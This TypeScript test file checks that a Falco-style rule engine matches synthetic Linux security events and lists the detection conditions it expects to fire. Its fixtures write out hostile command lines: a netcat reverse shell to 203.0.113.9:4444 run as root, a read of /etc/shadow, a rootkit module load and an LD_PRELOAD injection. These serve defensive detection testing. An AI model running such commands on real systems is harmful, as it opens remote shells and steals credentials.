import { describe, expect, it } from 'vitest';
import { dayStart, event, withEvents } from '../../../../tests/support/event-store.ts';
import type { EventRow } from '../../../events/event.ts';
import { eventFormat } from '../../../match/event-format.ts';
import { FieldObserver } from '../../../match/field-observer.ts';
import type { Rule } from '../rule-language.ts';
import { loadRuleSet } from './rule-set.ts';

const events = [
  event('process', {
    event_action: 'exec',
    event_outcome: 'success',
    process_name: 'nc',
    process_executable: '/usr/bin/nc',
    process_command_line: 'nc -e /bin/sh 203.0.113.9 4444',
    process_args: ['nc', '-e', '/bin/sh', '203.0.113.9', '4444'],
    process_parent_name: 'bash',
    process_tty: 'pts/0',
    user_id: 0,
    user_name: 'root',
    fields:
      '{"syscall":"execve","exit":"0","ancestors":[{"pid":8,"name":"bash"},{"pid":7,"name":"sudo","executable":"/usr/bin/sudo"},{"pid":1,"name":"init"}]}',
  }),
  event('file_access', {
    event_action: 'read',
    event_outcome: 'success',
    file_path: '/etc/shadow',
    process_name: 'cat',
    process_command_line: 'cat /etc/shadow',
    syscall: 'openat',
    time: dayStart + 1e6,
  }),
  event('file_access', {
    event_action: 'attribute',
    event_outcome: 'failure',
    file_path: '/tool',
    process_name: 'chmod',
    syscall: 'fchmodat',
    fields: '{"mode":"suid,sgid,0755","exit":"-1"}',
  }),
  event('socket', {
    event_action: 'connect',
    event_outcome: 'success',
    socket_family: 'inet',
    source_ip: '10.0.0.5',
    source_port: 40_000,
    destination_ip: '203.0.113.9',
    destination_port: 4444,
    process_name: 'nc',
    syscall: 'connect',
  }),
  event('process', {
    event_action: 'exec',
    process_pid: 4711,
    process_name: 'sh',
    container_id: 'ab'.repeat(32),
    container_image_name: 'registry.example:5000/team/shop:1.2@sha256:00',
    fields:
      '{"cap_effective":"a80425fb","cap_permitted":"1a80425fb","own_pid":1,"own_group":1,"is_upper_layer":true,"container_privileged":true,"container_mounts":["/proc:/p::true:","/:/host::true:rprivate"]}',
  }),
  event('process', {
    event_action: 'exec',
    process_name: 'id',
    fields: '{"BPRM_FCAPS":{"pe":"000001fffeffffff","pp":"1"}}',
  }),
  event('kernel_module', { event_action: 'load', module_name: 'rootkit', process_name: 'insmod' }),
  event('process', {
    event_action: 'exec',
    process_name: 'ssh',
    process_args: ['ssh', '-N', 'far'],
    container_id: 'cd'.repeat(32),
    fields:
      '{"env":{"LD_PRELOAD":"/tmp/x.so","HTTP_PROXY":"http://p:3128"},"is_group_leader":true,"age_ns":5000000001,"executable_changed_ns":"1700000000123456789","egid":"33","EGID":"www-data","ancestors":[{"pid":8,"name":"bash"},{"pid":7,"executable":"/usr/bin/sudo"}],"container_pod_namespace":"shop","container_pod_name":"web-0"}',
  }),
  event('file_access', {
    event_action: 'write',
    file_path: '/opt/dropped',
    process_name: 'curl',
    syscall: 'openat',
    fields: '{"mode":"0755","path":"../../opt/dropped"}',
  }),
  event('file_access', { event_action: 'write', file_path: '/opt/plain', fields: '{"mode":"0640"}' }),
  event('socket', {
    event_action: 'accept',
    source_ip: '198.51.100.9',
    source_port: 50_000,
    destination_ip: '10.0.0.5',
    destination_port: 22,
    network_transport: 'tcp',
  }),
  event('socket', { event_action: 'send', destination_ip: '198.51.100.8', network_transport: 'udp' }),
  event('socket', { event_action: 'listen', destination_ip: '0.0.0.0', destination_port: 8080 }),
  event('log', { message: 'no system call' }),
];

/** Conditions with the number of the events above that they match. */
const conditions: readonly (readonly [condition: string, matches: number])[] = [
  ['evt.type = execve and proc.name = nc and proc.args startswith "-e"', 1],
  ['evt.type in (openat, openat2) and evt.is_open_read = true and fd.directory = /etc', 1],
  ['evt.type in (open, openat) and fd.filename = shadow and fd.typechar = f and fd.num >= 0', 1],
  ['evt.type = fchmodat and evt.arg.mode contains S_ISUID and evt.arg.mode contains S_ISGID', 1],
  ['evt.type = fchmodat and evt.arg.mode contains S_ISVTX', 0],
  ['fd.directory = / and evt.rawres < 0 and evt.failed = true', 1],
  ['evt.type = connect and fd.net = 203.0.113.0/24 and fd.port in (4444) and fd.typechar = 4', 1],
  ['evt.type = connect and fd.net != 203.0.113.0/24', 0],
  ['evt.type = connect and fd.ip != 198.51.100.1', 1],
  ['evt.type = finit_module', 1],
  ['not proc.aname[3] = sshd and evt.type exists', 13],
  ['proc.tty != 0 and proc.aname[1] = bash', 1],
  ['proc.aname[2] = sudo and proc.aexepath[2] = /usr/bin/sudo and proc.apid[3] = 1 and proc.aname[3] = init', 1],
  ['not proc.aname[4] exists and proc.aname[3] exists', 1],
  // Any of those that started it, not itself.
  ['proc.aname in (init, sudo) and proc.aexepath = /usr/bin/sudo and proc.apid = 1', 1],
  ['proc.aname = nc', 0],
  ['proc.aname startswith ba and proc.pname = bash', 1],
  ['evt.type exists and not proc.aname = sudo', 12],
  ['user.uid = 0 and proc.cmdline endswith 4444', 1],
  ['thread.cap_effective contains CAP_SYS_ADMIN', 1],
  ['thread.cap_effective contains "CAP_CHOWN CAP_DAC_OVERRIDE CAP_FOWNER"', 1],
  ['thread.cap_permitted contains CAP_MAC_OVERRIDE', 1],
  ['thread.cap_permitted = CAP_CHOWN', 1],
  ['thread.cap_effective endswith CAP_CHECKPOINT_RESTORE and not thread.cap_effective contains CAP_SETPCAP', 0],
  ['proc.vpid = 1 and proc.is_exe_upper_layer = true and container.privileged = true', 1],
  ['container.image.repository = registry.example:5000/team/shop and container.image.tag = 1.2', 1],
  ['container.privileged = false', 0],
  ['container.mount.dest[/] = /host and container.mount.dest[/pro*] = /p and container.mount.dest[/etc] = N/A', 1],
  ['evt.type exists and not container.mount.dest[/] in ("<NA>","N/A")', 1],
  ['container.id = host', 11],
  ['container.id != host and evt.source = syscall', 2],
  ['proc.env icontains http_proxy and proc.env contains "LD_PRELOAD=/tmp/x.so "', 1],
  ['proc.env exists and not proc.env contains GLIBC_TUNABLES', 1],
  ['proc.cmdnargs = 2 and proc.is_vpgid_leader = true', 1],
  ['proc.cmdnargs >= 4 or proc.cmdnargs < 0', 1],
  ['proc.duration > 5000000000 and proc.exe_ino.ctime = 1700000000123456789', 1],
  ['group.gid = 33 and group.name = www-data and proc.aexe[2] = /usr/bin/sudo', 1],
  ['k8s.ns.name = shop and k8s.pod.name startswith web', 1],
  ['proc.aexe[0] = ssh and proc.aexe in (/usr/bin/sudo)', 1],
  ['evt.is_open_exec = true and fd.nameraw startswith ../..', 1],
  ['evt.is_open_exec = false and fd.nameraw = /opt/plain', 1],
  ['evt.type = accept and fd.rip = 198.51.100.9 and fd.lport = 22 and fd.is_server = true', 1],
  ['evt.type = connect and fd.rip = 203.0.113.9 and fd.lport = 40000 and fd.connected = true', 1],
  ['evt.type = sendto and fd.l4proto != tcp and fd.connected = false and fd.name_changed = true', 1],
  ['evt.type = listen and fd.lport = 8080 and not fd.rip exists', 1],
  ['proc.nthreads = 1', 0],
  ['tolower(proc.name) = nc and len(proc.name) = 2', 2],
];

const text = conditions
  .map(
    ([condition], index) =>
      `- rule: r${index}\n  desc: d\n  condition: >\n    ${condition}\n  output: o\n  priority: INFO\n  warn_evttypes: false\n`,
  )
  .join('\n');

function ruleOf(condition: string): Rule {
  const one = `- rule: r\n  desc: d\n  condition: ${condition}\n  output: o\n  priority: INFO\n`;
  const [rule] = loadRuleSet([{ path: 'one.yaml', text: one }]).rules;
  if (rule === undefined) throw new Error(`no rule: ${condition}`);
  return rule;
}

function untoldIn(condition: string): readonly string[] | undefined {
  return ruleOf(condition)
    .untold?.()
    .map(({ field }) => field);
}

describe('Falco rules over our own events', () => {
  const set = loadRuleSet([{ path: 'rules.yaml', text }], { options: ['rule_matching=all'] });

  it('load', () => {
    expect(set.files[0]?.problems).toEqual([]);
  });

  it('match live what they should', () => {
    const counts = new Map<string, number>();
    const runner = set.runner(eventFormat);
    for (const row of events as unknown as readonly EventRow[]) {
      for (const { rule } of runner?.judge(row) ?? []) counts.set(rule.id, (counts.get(rule.id) ?? 0) + 1);
    }
    expect(conditions.map(([condition], index) => [condition, counts.get(`r${index}`) ?? 0])).toEqual(conditions);
  });

  it('match in a store what they match live', async () => {
    const counts = await withEvents(events, async (store) => {
      const found: number[] = [];
      for (const rule of set.rules) {
        let count = 0;
        for (const { sql } of rule.search(store.macros).queries) count += (await store.query(sql)).length;
        found.push(count);
      }
      return found;
    });
    expect(conditions.map(([condition], index) => [condition, counts[index]])).toEqual(conditions);
  });

  it('tell which field a rule lacks, and only when it cannot do without', () => {
    const missing = set.rules.map((rule) => rule.missing(eventFormat).map(({ field }) => field));
    expect(missing.flatMap((fields, index) => (fields.length > 0 ? [[conditions[index]?.[0], fields]] : []))).toEqual([
      ['proc.nthreads = 1', ['proc.nthreads']],
    ]);
  });

  it('tell what they do without', () => {
    expect(untoldIn('evt.type = openat and not proc.nthreads = 1')).toEqual(['proc.nthreads']);
    expect(untoldIn('evt.type = openat and (fd.name = /x or fd.sip.name = far)')).toEqual(['fd.sip.name']);
    expect(untoldIn('evt.type = openat and fd.name = /x')).toEqual([]);
  });

  it('ask for containers, and for what is in none', () => {
    const observer = new FieldObserver(eventFormat);
    const rules = ['container.id != host', 'container.id = host', 'not container.id in (host, x)'].map(ruleOf);
    for (const rule of rules) rule.missing(observer.probe, 'process');
    observer.see({ kind: 'process', event_action: 'exec' });
    const lacking = rules.map((rule) => rule.missing(observer.observed, 'process').map(({ field }) => field));
    expect(lacking).toEqual([['container.id'], [], []]);
  });
});
